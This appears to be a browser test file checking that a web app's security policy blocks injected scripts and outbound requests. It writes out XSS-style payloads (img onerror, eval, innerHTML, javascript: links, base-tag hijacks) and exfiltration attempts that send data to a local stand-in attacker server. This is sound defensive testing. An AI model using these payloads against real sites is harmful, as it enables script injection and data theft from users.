// SPDX-License-Identifier: Apache-2.0
// What somebody who got code into a page could try: in the real browser, against a real second server that notes whatever
// reaches it. The same attempts on a page without a policy do reach it, so the test can fail.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, test } from "node:test";
import { newProfile } from "../lib/browser.js";
import { stage } from "../lib/stage.js";

const { origin, browser } = await stage();

/** Somebody else’s server: it answers anything, to anybody, and remembers. */
const reached = [];
const elsewhere = createServer((request, answer) => {
  reached.push(request.url);
  const type = request.url.endsWith(".js") ? "text/javascript" : "text/html";
  answer.writeHead(200, { "content-type": type, "access-control-allow-origin": "*" });
  const bad = "document.title = 'taken';";
  const frame = `<title>away</title><iframe src="${origin}/en/right-now/"></iframe>`;
  answer.end(request.url.endsWith(".js") ? bad : request.url === "/frame" ? frame : "<title>away</title>");
});
await new Promise((done) => elsewhere.listen(0, "127.0.0.1", done));
elsewhere.on("upgrade", (request, socket) => {
  reached.push(request.url);
  socket.destroy();
});
after(() => elsewhere.close());
const away = `http://127.0.0.1:${elsewhere.address().port}`;

/** Everything that a script could do to reach somebody else, each under a name of its own. Returns which of them threw. */
const ATTEMPTS = async (away) => {
  const add = (name, set) => {
    const element = document.createElement(name);
    set(element);
    document.body.append(element);
  };
  const all = {
    fetch: () => fetch(`${away}/fetch`, { mode: "no-cors" }),
    post: () => fetch(`${away}/post`, { mode: "no-cors", method: "POST", body: "words" }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${away}/xhr`);
      request.send();
    },
    socket: () => new WebSocket(`${away.replace("http", "ws")}/socket`),
    events: () => new EventSource(`${away}/events`),
    beacon: () => navigator.sendBeacon(`${away}/beacon`, "words") || Promise.reject(new Error("refused")),
    image: () => add("img", (e) => (e.src = `${away}/image`)),
    style: () => add("link", (e) => Object.assign(e, { rel: "stylesheet", href: `${away}/style` })),
    prefetch: () => add("link", (e) => Object.assign(e, { rel: "prefetch", href: `${away}/prefetch` })),
    preload: () => add("link", (e) => Object.assign(e, { rel: "preload", as: "fetch", href: `${away}/preload` })),
    frame: () => add("iframe", (e) => (e.src = `${away}/in-a-frame`)),
    object: () => add("object", (e) => (e.data = `${away}/object`)),
    embed: () => add("embed", (e) => (e.src = `${away}/embed`)),
    sound: () => add("audio", (e) => (e.src = `${away}/sound`)),
    background: () => (document.body.style.backgroundImage = `url("${away}/background")`),
    form: () =>
      add("form", (e) => {
        // In a frame of its own, so that the page stays.
        Object.assign(e, { action: `${away}/form`, method: "post", target: "nowhere" });
        add("iframe", (frame) => (frame.name = "nowhere"));
        document.body.append(e);
        e.submit();
      }),
    script: () => add("script", (e) => (e.src = `${away}/script.js`)),
    import: () => import(`${away}/import.js`),
    worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${away}/worker")`]))),
  };
  const refused = [];
  for (const [name, attempt] of Object.entries(all)) {
    try {
      await Promise.race([attempt(), new Promise((done) => setTimeout(done, 300))]);
    } catch {
      refused.push(name);
    }
  }
  await new Promise((done) => setTimeout(done, 300));
  return refused;
};

const NAMES = [
  "/fetch", "/post", "/xhr", "/socket", "/events", "/beacon", "/image", "/style", "/prefetch", "/preload", "/in-a-frame", "/object",
  "/embed", "/sound", "/background", "/form", "/script.js", "/import.js", "/worker",
];

const OURS = ["/en/right-now/", "/app/", "/counsellor/", "/measures/"];

test("the attempts do reach somebody else from a page without a policy", async () => {
  const profile = await newProfile(browser);
  const page = await profile.newPage();
  await page.goto(`${away}/open`);
  reached.length = 0;
  await page.evaluate(ATTEMPTS, away);
  for (const name of NAMES) assert.ok(reached.includes(name), `${name} of ${reached}`);
  await profile.close();
});

for (const path of OURS) {
  test(`whatever a script tries on ${path}, nobody else is reached`, async () => {
    const profile = await newProfile(browser, { serviceWorkers: "block" });
    const page = await profile.newPage();
    await page.goto(origin + path, { waitUntil: "networkidle" });
    reached.length = 0;
    const refused = await page.evaluate(ATTEMPTS, away);
    assert.deepEqual(reached, []);
    for (const name of ["fetch", "post", "script", "import", "worker"]) assert.ok(refused.includes(name), name);
    assert.notEqual(await page.title(), "taken");
    await profile.close();
  });

  test(`on ${path} no text becomes a script, whichever way it is tried`, async () => {
    const profile = await newProfile(browser, { serviceWorkers: "block" });
    const page = await profile.newPage();
    await page.goto(origin + path, { waitUntil: "networkidle" });
    const passed = await page.evaluate(() => {
      const bad = "document.title = 'taken'";
      const image = `<img src="x" onerror="${bad}">`;
      const all = {
        eval: () => (0, eval)(bad),
        function: () => new Function(bad)(),
        timeout: () => setTimeout(bad, 0),
        scriptText: () => {
          const script = document.createElement("script");
          script.textContent = bad;
          document.body.append(script);
        },
        scriptNode: () => {
          const script = document.createElement("script");
          script.append(bad);
          document.body.append(script);
        },
        innerHTML: () => (document.body.firstElementChild.innerHTML = image),
        outerHTML: () => (document.body.firstElementChild.outerHTML = image),
        insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", image),
        fragment: () => document.body.append(document.createRange().createContextualFragment(image)),
        write: () => document.write(image),
        parser: () => new DOMParser().parseFromString(image, "text/html"),
        frame: () => (document.createElement("iframe").srcdoc = image),
        handler: () => document.body.setAttribute("onclick", bad),
        policy: () => trustedTypes.createPolicy("another", { createHTML: (html) => html }),
        again: () => trustedTypes.createPolicy("kindhold", { createHTML: (html) => html }),
        base: () => {
          const base = document.createElement("base");
          base.href = "https://elsewhere.example/";
          document.head.append(base);
          if (!document.baseURI.startsWith(location.origin)) throw Object.assign(new Error(), { passed: true });
          throw new Error("refused");
        },
      };
      const tried = () => {
        const passed = [];
        for (const [name, attempt] of Object.entries(all)) {
          try {
            attempt();
            passed.push(name);
          } catch (e) {
            if (e.passed) passed.push(name);
          }
        }
        document.body.click();
        return passed;
      };
      // In a turn of the page's own: what a debugger calls directly may use `eval`.
      return new Promise((done) => setTimeout(() => done(tried()), 0));
    });
    // These throw nothing: the browser takes the text and does not run it. The neutral page runs no script, so the one policy
    // that pages may have is still to be had there; it would be of use to a script that already runs.
    const silent = path === "/measures/" ? ["scriptNode", "again"] : ["scriptNode"];
    assert.deepEqual(passed.filter((name) => !silent.includes(name)), []);
    await page.waitForTimeout(100);
    assert.notEqual(await page.title(), "taken");
    await profile.close();
  });
}

test("scripts, frames, forms and styles that a server in between puts into a page do nothing", async () => {
  const bad = `<script>document.title = "taken"</script><script src="${away}/script.js"></script>
    <img src="x" onerror="document.title = 'taken'"><iframe src="${away}/in-a-frame"></iframe>
    <iframe srcdoc="<script>parent.document.title = 'taken'</script>"></iframe>
    <object data="${away}/object"></object><link rel="stylesheet" href="${away}/style"><base href="${away}/">
    <style>body { background: url("${away}/background") }</style><p style="position: fixed" id="styled">x</p>
    <a id="link" href="javascript:document.title = 'taken'">x</a><form id="form" action="${away}/form"></form>`;
  for (const path of ["/en/right-now/", "/measures/"]) {
    const profile = await newProfile(browser, { serviceWorkers: "block" });
    await profile.route(`**${path}`, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.text()).replace("</main>", `${bad}</main>`);
      assert.ok(body.includes("taken"), path);
      await route.fulfill({ response: answer, body });
    });
    const page = await profile.newPage();
    reached.length = 0;
    await page.goto(origin + path);
    await page.evaluate(() => {
      document.querySelector("#link").click();
      document.querySelector("#form").submit();
    });
    await page.waitForTimeout(300);
    assert.deepEqual(reached, [], path);
    assert.notEqual(await page.title(), "taken", path);
    assert.equal(page.url(), origin + path);
    const look = await page.evaluate(() => [getComputedStyle(document.querySelector("#styled")).position, document.baseURI]);
    assert.deepEqual(look, ["static", origin + path]);
    await profile.close();
  }
});

test("no other site can put one of our pages into a frame, or read an answer", async () => {
  const profile = await newProfile(browser);
  const page = await profile.newPage();
  await page.goto(`${away}/frame`, { waitUntil: "load" });
  const framed = page.frames().find((frame) => frame !== page.mainFrame());
  assert.ok(!(await framed.content()).includes("right now"), framed.url());
  assert.match(framed.url(), /^chrome-error:/);
  const read = await page.evaluate(async (origin) => {
    const paths = ["/en/right-now/", "/data/en/strings.json", "/relay/v1/info", "/healthz"];
    const tried = paths.flatMap((path) => ["cors", "no-cors"].map((mode) => fetch(origin + path, { mode })));
    return (await Promise.allSettled(tried)).map((t) => t.status);
  }, origin);
  assert.deepEqual(new Set(read), new Set(["rejected"]));
  await profile.close();
});

test("a page of another site changes nothing at the relay, by form or by script", async () => {
  const box = "/relay/v1/mailboxes/00000000000000000000000000bad001";
  const profile = await newProfile(browser);
  const page = await profile.newPage();
  await page.goto(`${away}/open`);
  const asked = await page.evaluate(async (url) => {
    const tries = ["POST", "PUT", "DELETE"].flatMap((method) =>
      ["cors", "no-cors"].map((mode) => fetch(url, { method, mode, body: "words" })),
    );
    return (await Promise.allSettled(tries)).map((t) => t.status);
  }, origin + box);
  assert.deepEqual(new Set(asked), new Set(["rejected"]));
  assert.equal((await fetch(origin + box)).status, 404);
  const sent = page.waitForResponse((answer) => answer.url() === `${origin}/relay/v1/challenge`);
  await page.evaluate((action) => {
    const form = Object.assign(document.createElement("form"), { action, method: "post" });
    document.body.append(form);
    form.submit();
  }, `${origin}/relay/v1/challenge`);
  assert.equal((await sent).status(), 403);
  await profile.close();
});
